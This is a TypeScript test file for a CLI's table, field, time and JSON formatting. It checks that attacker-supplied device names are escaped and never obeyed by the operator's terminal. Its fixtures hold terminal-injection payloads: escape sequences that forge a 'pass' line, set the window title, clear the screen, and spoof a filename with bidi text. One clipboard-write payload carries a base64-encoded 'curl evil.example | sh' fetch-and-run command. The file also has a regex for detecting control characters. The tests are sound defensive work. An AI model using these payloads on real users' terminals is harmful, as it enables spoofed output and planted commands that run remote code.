import { formatFields, formatTable, isoOr, isoSeconds, printable, toJson, toJsonLine } from '../../packages/cli/src/output';
import { oneLine } from '../../packages/cli/src/errors';

/**
 * What an attacker wrote into a device model to take over an operator's terminal: erase
 * the previous line and draw a forged green "pass" (CSI), set the window title and write the
 * clipboard (OSC, ended by BEL or ST), and clear the screen with the one-byte C1 CSI (0x9b).
 */
const ATTACKS = {
  'CSI erase and a forged coloured line': 'Pixel 8\u001b[1A\u001b[2K\u001b[32mpass     com.example.app  1.0.0\u001b[0m',
  'OSC 52 clipboard write': '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  'OSC 0 window title ended by ST': '\u001b]0;owned\u001b\\',
  'C1 CSI 0x9b erase screen': 'x\u009b2J\u009b3J',
  'bidi override': 'gnp.\u202eexe',
  'DEL and a lone surrogate': 'a\u007fb\ud800c',
};
/** Anything a terminal acts on: C0 (except the newline that ends a line), DEL, C1, bidi controls, lone surrogates. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])/;

describe('formatTable', () => {
  const rows = [
    { name: 'com.example.app', size: 3000000, note: 'release' },
    { name: 'com.x.y', size: 12, note: '' },
  ];
  const columns = [
    { header: 'APP', value: (r: (typeof rows)[number]) => r.name },
    { header: 'SIZE', value: (r: (typeof rows)[number]) => String(r.size), align: 'right' as const },
    { header: 'NOTE', value: (r: (typeof rows)[number]) => r.note },
  ];

  it('aligns columns two spaces apart, numbers to the right, without trailing spaces', () => {
    expect(formatTable(rows, columns)).toBe(['APP                 SIZE  NOTE', 'com.example.app  3000000  release', 'com.x.y               12', ''].join('\n'));
  });

  it('keeps a value with a newline or tab on its row, shown as an escape', () => {
    const out = formatTable([{ name: 'a\nb', size: 1, note: 'x\ty' }], columns);
    expect(out.split('\n')).toHaveLength(3);
    expect(out).toContain('a\\nb');
    expect(out).toContain('x\\ty');
  });

  it('prints only the header for no rows', () => {
    expect(formatTable([], columns)).toBe('APP  SIZE  NOTE\n');
  });
});

describe('formatFields and times', () => {
  it('aligns values after the longest key', () => {
    expect(formatFields([['app', 'com.example.app'], ['version', '1.0.0']])).toBe('app      com.example.app\nversion  1.0.0\n');
  });

  it('prints unix seconds as ISO 8601 UTC without milliseconds', () => {
    expect(isoSeconds(1_800_000_000)).toBe('2027-01-15T08:00:00Z');
    expect(isoOr(undefined, 'never')).toBe('never');
  });
});

describe('terminal injection: text others wrote is shown, never obeyed', () => {
  it.each(Object.entries(ATTACKS))('escapes %s in tables, fields and messages', (_name, attack) => {
    // Act
    const table = formatTable([{ model: attack }], [{ header: 'MODEL', value: (r: { model: string }) => r.model }]);
    const fields = formatFields([['note', attack]]);
    const message = oneLine(`the service refused POST (400): ${attack}`);
    // Assess
    for (const out of [table, fields, message]) expect(out).not.toMatch(RAW_CONTROL);
    expect(table.split('\n')).toHaveLength(3);
    expect(printable(attack)).not.toMatch(RAW_CONTROL);
  });

  it('shows each escape so the operator can see what was sent', () => {
    expect(printable('a\u001b[2Kb\u009bc\u202ed\te\nf\u0007')).toBe('a\\x1b[2Kb\\x9bc\\u202ed\\te\\nf\\x07');
    expect(printable('Pixel 8 Pro, Überphone, 小米 😀')).toBe('Pixel 8 Pro, Überphone, 小米 😀');
  });

  it.each(Object.entries(ATTACKS))('keeps --json valid and equal, with %s escaped', (_name, attack) => {
    // Act
    const pretty = toJson({ model: attack, nested: [attack] });
    const line = toJsonLine({ model: attack });
    // Assess
    for (const out of [pretty, line]) expect(out).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(pretty)).toEqual({ model: attack, nested: [attack] });
    expect(JSON.parse(line)).toEqual({ model: attack });
    expect(line.trimEnd().split('\n')).toHaveLength(1);
  });
});
